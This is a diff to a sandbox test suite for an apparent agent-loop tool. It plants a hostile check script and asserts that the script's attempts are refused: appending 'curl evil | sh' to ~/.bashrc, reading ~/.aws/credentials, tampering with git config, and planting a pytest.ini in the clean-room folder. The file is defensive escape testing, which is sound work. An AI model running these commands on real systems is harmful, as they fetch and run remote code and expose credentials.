@@ -124,6 +124,7 @@ attempt("git-config", lambda: open(root / ".git/config", "a").write("[core]\\\\n
 attempt("ledger", lambda: open(root / ".loopkit/ledger.jsonl", "a").write("{}\\\\n"))
 attempt("cancel", lambda: (root / ".loopkit/cancel.json").unlink())
 attempt("bashrc", lambda: open(home / ".bashrc", "a").write("curl evil | sh\\\\n"))
+attempt("rooms", lambda: (pathlib.Path("__ROOMS__") / "pytest.ini").write_text("x"))
 for name in (".aws/credentials", "notes.txt"):
     try:
         print("SECRET", (home / name).read_text())
@@ -146,9 +147,15 @@ def test_a_check_reaches_nothing_that_judges_it_nor_the_persons_home(
     (home / ".aws/credentials").write_text("aws_secret_access_key = MARKER-AWS-4242\n")
     (home / "notes.txt").write_text("MARKER-NOTES-4242\n")
     (home / ".bashrc").write_text("# mine\n")
+    # The folder above every clean room, away from /tmp and the home (each private in
+    # the sandbox anyway): a pytest.ini there would reach every later check.
+    import shutil
+    import tempfile
+
+    rooms = Path(tempfile.mkdtemp(prefix="loopkit-rooms-", dir="/var/tmp"))
     p = make_project(
         tmp_path,
-        REACH,
+        REACH.replace("__ROOMS__", str(rooms)),
         files={"src/calc.py": "def f():\n    return 0\n"},
         gitignore="__pycache__/\n",
         checks=[CALC_CHECK],
@@ -157,11 +164,14 @@ def test_a_check_reaches_nothing_that_judges_it_nor_the_persons_home(
     config_before = (p.root / ".git/config").read_text()
     proc = p.run(
         "loop.sh", "--contract", "loop.yaml", "--task-id", "fix-value", "--task", "Fix",
-        env={"HOME": str(home)},
+        env={"HOME": str(home), "LOOPKIT_CLEANROOM": str(rooms)},
     )
+    planted = (rooms / "pytest.ini").exists()
+    shutil.rmtree(rooms, ignore_errors=True)
     assert proc.returncode == 0, fail_message(proc)  # the fix itself is honest
     log = next((p.state() / "artifacts").rglob("verify-01-calc.log")).read_text()
     assert "REFUSED hook" in log and "REFUSED git-config" in log, log
+    assert "REFUSED rooms" in log and not planted, log
     assert not (p.root / ".git/hooks/post-commit").exists()
     assert (p.root / ".git/config").read_text() == config_before
     assert (home / ".bashrc").read_text() == "# mine\n"
